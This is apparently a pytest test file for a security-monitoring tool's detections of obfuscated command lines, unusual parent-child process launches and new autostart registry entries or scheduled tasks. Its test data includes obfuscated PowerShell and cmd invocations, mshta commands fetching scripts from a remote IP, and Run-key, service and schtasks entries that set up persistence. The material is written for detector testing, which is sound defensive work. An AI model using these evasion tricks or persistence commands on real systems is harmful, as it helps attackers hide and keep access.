"""Command lines hard to read, programs first started by a parent, and what starts by itself on one host alone."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from soc_analyst.tools.detections.statistics.obscurity import read

from .rows import Row, at, evidence, found, levels

OBSCURED, FIRST = "stat-obscured-command", "stat-first-parent-child"
DAY = 86400.0


def command(seconds: float, line: str, host: str = "ws1", name: str = "powershell.exe", parent: str = "") -> Row:
    return at(
        seconds, DeviceName=host, AccountName="ana", FileName=name, ProcessCommandLine=line,
        FolderPath=f"C:\\Windows\\System32\\{name}", InitiatingProcessFileName=parent,
    )  # fmt: skip


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


TRICKY = (
    "cmd /c n^e^t^s^h firewall set",
    'cmd /c who""ami&&ip""con""fig & ta""sklist',
    "powershell i`Wr x; (g`Et-c`Ontent y); s`Tart z",
    "powershell &('in'+'vo'+'ke-'+'ex'+'pression')",
    "powershell iex([char]105+[char]101+[char]120+[char]10)",
    "powershell &('{2}{0}{1}{3}'-f 'b','c','a','d')",
    "cmd /c %ComSpec:~1,1%%ComSpec:~4,1%%ComSpec:~2,1%%Path:~9,1%",
    "pOwErShElL -nop ByPaSs ('a'+'b'); hIdDeN",
)
PLAIN = (
    r'cmd /c "dir C:\work & echo a^&b & type ""C:\a b.txt"""',
    "powershell -Command \"Write-Host 'it''s done'; 'total: ' + $n\"",
    'powershell "Write-Host `"one`ntwo`n`tthree`""',
    "PowerShell.exe -NoProfile -ExecutionPolicy ByPass -WindowStyle Hidden -File D:\\Deploy.ps1",
    "powershell \"'{0}{1}{2}{3}' -f $a, $b, $c, $d\"",
    "cmd /c echo %PATH% %TEMP% %COMSPEC%",
    'python -c "print(chr(65))"',
)


@pytest.mark.parametrize("line", TRICKY)
def test_tricks_of_writing(line: str) -> None:
    assert levels("DeviceProcessEvents", [command(0, line)]) == {OBSCURED: "medium"}


@pytest.mark.parametrize("line", PLAIN)
def test_plain_writing(line: str) -> None:
    assert levels("DeviceProcessEvents", [command(0, line)]) == {}


def test_a_compiler_may_quote_as_it_likes() -> None:
    assert levels("DeviceProcessEvents", [command(0, TRICKY[0], name="cl.exe")]) == {}


def test_encoded_text_is_low_and_counted() -> None:
    line = f"powershell -enc {encoded('Get-ChildItem C:/Users | Measure-Object')}"
    (detection,) = found(evidence("DeviceProcessEvents", [command(0, line)]))
    assert (detection.rule.id, detection.rule.level) == (OBSCURED, "low")
    assert "39 characters of encoded text" in detection.statement


@pytest.mark.parametrize("apart", ["hosts", "days"])
def test_encoded_text_that_is_common_is_a_tools(apart: str) -> None:
    line = f"powershell -enc {encoded('Get-ChildItem C:/Users | Measure-Object')}"
    rows = [command(i * DAY * (apart == "days"), line, f"ws{i * (apart == 'hosts')}") for i in range(3)]
    assert levels("DeviceProcessEvents", rows) == {}


@pytest.mark.parametrize(("others", "expected"), [(25, {OBSCURED: "low"}), (10, {})])
def test_length_is_judged_by_the_programs_own_lines(others: int, expected: dict[str, str]) -> None:
    usual = [command(i * 40.0, f"powershell -File D:\\job{i}.ps1") for i in range(others)]
    assert levels("DeviceProcessEvents", [*usual, command(5000, "powershell " + "get x; " * 400)]) == expected


def test_a_program_whose_lines_are_all_long() -> None:
    assert (
        levels("DeviceProcessEvents", [command(i * 40.0, "powershell " + "g x; " * (900 + i)) for i in range(30)]) == {}
    )


def test_one_detection_for_a_program_on_a_host() -> None:
    rows = [command(i * 10.0, f"cmd /c p^i^n^g^ 10.0.0.{i}", name="cmd.exe") for i in range(40)]
    (detection,) = found(evidence("DeviceProcessEvents", rows))
    assert detection.statement.startswith("40 command(s) of cmd.exe on ws1")


@given(st.text(max_size=300))
def test_any_text_can_be_read(line: str) -> None:
    reading = read(line)
    assert reading.bits >= 0
    assert all(count > 0 for _, count in reading.tricks)


def history(days: int = 6) -> list[Row]:
    """Return three days and more of two parents at their usual work."""
    rows = [command(i * days * 180.0, "", name=f"app{i % 7}.exe", parent="explorer.exe") for i in range(400)]
    return rows + [command(i * days * 700.0, "", name="conhost.exe", parent="w3wp.exe") for i in range(100)]


@pytest.mark.parametrize(
    ("parent", "line", "expected"),
    [
        ("explorer.exe", "mshta http://45.77.10.20/a.hta", {FIRST: "low"}),
        ("w3wp.exe", r"cmd /c C:\Windows\Temp\a.bat", {FIRST: "medium"}),
        ("explorer.exe", "powershell Get-Date", {}),
        ("unheard.exe", "mshta http://45.77.10.20/a.hta", {}),
    ],
)
def test_a_first_child_in_company(parent: str, line: str, expected: dict[str, str]) -> None:
    last = command(5.9 * DAY, line, name=line.split()[0] + ".exe", parent=parent)
    assert levels("DeviceProcessEvents", [*history(), last]) == expected


def test_what_a_parent_did_before_is_not_new() -> None:
    line = "mshta http://45.77.10.20/a.hta"
    twice = [command(day * DAY, line, name="mshta.exe", parent="explorer.exe") for day in (0.5, 3.9)]
    assert FIRST not in levels("DeviceProcessEvents", [*history(), *twice])


def test_a_day_is_no_past() -> None:
    last = command(0.9 * DAY, "mshta http://45.77.10.20/a", name="mshta.exe", parent="explorer.exe")
    assert levels("DeviceProcessEvents", [*history(1), last]) == {}


AUTOSTART = "stat-new-autostart"
RUN = r"HKEY_CURRENT_USER\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run"
SERVICE = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Sync"
PLACED = r"C:\Users\ana\AppData\Roaming\sync\s.exe"


def key(host: str, name: str, data: str, path: str = RUN, seconds: float = 100.0) -> Row:
    return at(
        seconds, DeviceName=host, ActionType="RegistryValueSet", RegistryKey=path, RegistryValueName=name,
        RegistryValueData=data,
    )  # fmt: skip


def keys(hosts: int = 6) -> list[Row]:
    return [key(f"ws{i % hosts}", "Start", "3", r"HKLM\SYSTEM\ControlSet001\Services\BITS", i) for i in range(60)]


def shells(hosts: int = 6) -> list[Row]:
    return [command(i * 5.0, "cmd /c dir", f"ws{i % hosts}", "cmd.exe") for i in range(60)]


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        (key("ws1", "Sync", PLACED), {AUTOSTART: "low"}),
        (key("ws1", "Sync", "mshta.exe http://45.77.10.20/a"), {AUTOSTART: "medium"}),
        (key("ws1", "ImagePath", "%COMSPEC% /c powershell -w hidden -f x", SERVICE), {AUTOSTART: "medium"}),
        (key("ws1", "Sync", r'"C:\Program Files\Sync\sync.exe" /background'), {}),
        (key("ws1", "Sync", r"cmd.exe /q /c rmdir /s /q C:\Users\ana\AppData\Local\Sync\1.2"), {}),
        (key("ws1", "Sync", r"C:\ProgramData\Sync\1.2.3.4\s.exe"), {AUTOSTART: "low"}),
        (key("ws1", "Sync", r"\\45.77.10.20\s\s.exe /appdata C:\ProgramData\s"), {AUTOSTART: "medium"}),
        (key("ws1", "ImagePath", r"C:\Windows\System32\drivers\sync.sys", SERVICE), {}),
        (key("ws1", "Sync", PLACED, r"HKCU\Software\Sync\Settings"), {}),
        ({**key("ws1", "Sync", PLACED), "ActionType": "RegistryValueDeleted"}, {}),
    ],
)
def test_what_starts_by_itself_on_one_host(entry: Row, expected: dict[str, str]) -> None:
    assert levels("DeviceRegistryEvents", [*keys(), entry]) == expected


def test_what_other_hosts_start_too() -> None:
    both = [key("ws1", "Sync_1f2e3", PLACED), key("ws2", "Sync_99ab0", PLACED)]
    assert levels("DeviceRegistryEvents", [*keys(), *both]) == {}


def test_autostarts_need_hosts_to_compare() -> None:
    assert levels("DeviceRegistryEvents", [*keys(3), key("ws1", "Sync", PLACED)]) == {}


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (r'schtasks.exe /create /sc minute /tn "My Sync" /tr C:\Users\Public\s.exe /f', "low"),
        (r'sc \\fs1 create sync binpath= "cmd /c C:\Windows\Temp\s.bat"', "medium"),
        (r"schtasks /create /sc daily /tn Backup /tr C:\Tools\backup.exe", None),
        ("schtasks /query /tn Backup", None),
    ],
)
def test_tasks_and_services_by_command(line: str, expected: str | None) -> None:
    last = command(400, line, "ws1", "schtasks.exe")
    assert levels("DeviceProcessEvents", [*shells(), last]).get(AUTOSTART) == expected


def test_a_task_rolled_out_to_many_hosts() -> None:
    line = r"schtasks /create /sc daily /tn Agent /tr C:\ProgramData\agent\run.exe"
    rows = [command(400 + i, line, f"ws{i}", "schtasks.exe") for i in range(4)]
    assert AUTOSTART not in levels("DeviceProcessEvents", [*shells(), *rows])
